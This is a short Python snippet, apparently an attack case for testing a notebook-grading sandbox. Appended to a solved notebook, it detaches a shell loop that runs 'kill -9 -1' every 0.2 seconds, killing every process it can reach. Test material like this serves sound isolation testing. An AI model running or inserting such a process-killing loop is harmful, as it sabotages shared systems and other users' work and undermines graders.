"""Attack (mine): a solved notebook that starts the same killer after its last check. Must:
its own answers, handed in before, keep their points (10); nobody else is touched."""
# base: solved
# where: end
import subprocess
import time

subprocess.Popen(["setsid", "sh", "-c", "while :; do kill -9 -1; sleep 0.2; done # LABKIT-HOSTILE"],
                 start_new_session=True)
time.sleep(5)
